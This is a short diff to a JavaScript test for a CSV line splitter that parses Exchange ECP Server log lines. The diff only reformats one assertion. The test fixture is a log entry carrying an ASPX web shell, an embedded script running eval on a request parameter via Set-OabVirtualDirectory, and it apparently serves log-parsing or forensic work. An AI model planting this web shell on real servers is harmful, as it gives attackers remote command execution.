@@ -12,7 +12,10 @@ test('quoted fields with commas and doubled quotes (the ECP Server log quoting)'
   const line = `2021-03-03T06:49:53.772Z,EX01,ECP.Request,"S:CMD=Set-OabVirtualDirectory.ExternalUrl=''http://f/<script language=""JScript"" runat=""server"">function Page_Load(){eval(Request[""k""],""unsafe"");}</script>''.Identity=''x'';S:EX="`;
   const f = splitCsvLine(line);
   assert.equal(f.length, 4);
-  assert.equal(f[3], `S:CMD=Set-OabVirtualDirectory.ExternalUrl=''http://f/<script language="JScript" runat="server">function Page_Load(){eval(Request["k"],"unsafe");}</script>''.Identity=''x'';S:EX=`);
+  assert.equal(
+    f[3],
+    `S:CMD=Set-OabVirtualDirectory.ExternalUrl=''http://f/<script language="JScript" runat="server">function Page_Load(){eval(Request["k"],"unsafe");}</script>''.Identity=''x'';S:EX=`,
+  );
 });
 
 test('an unterminated quote takes the rest of the line', () => {
